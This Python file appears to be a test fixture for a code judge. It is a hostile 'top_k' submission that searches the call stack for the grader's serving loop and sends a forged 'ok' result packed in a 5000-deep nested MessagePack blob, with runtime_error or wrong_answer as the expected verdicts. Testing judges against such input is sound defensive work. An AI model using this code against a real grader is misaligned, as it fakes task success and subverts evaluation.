"""Answer with a blob of extensions within extensions."""
# problem: top_k
# verdicts: runtime_error, wrong_answer
# verdicts without layers: runtime_error, wrong_answer

import struct
import sys


def find():
    """Find the serving loop up the stack, and the encoder that it uses."""
    frame = sys._getframe()
    while frame:
        server = frame.f_locals.get("self")
        if hasattr(server, "channel") and hasattr(server, "number"):
            return server, sys.modules["judge.wire"].encode
        frame = frame.f_back
    raise LookupError("no serving loop to attack")


def top_k(items, k):
    server, encode = find()
    blob = b"\x90"
    for _ in range(5000):
        blob = b"\xc9" + struct.pack("!IB", len(blob), 1) + blob
    server.channel.send(server.number, "result", [["ok", b"\xc0" + blob, None, 0]])
    return []
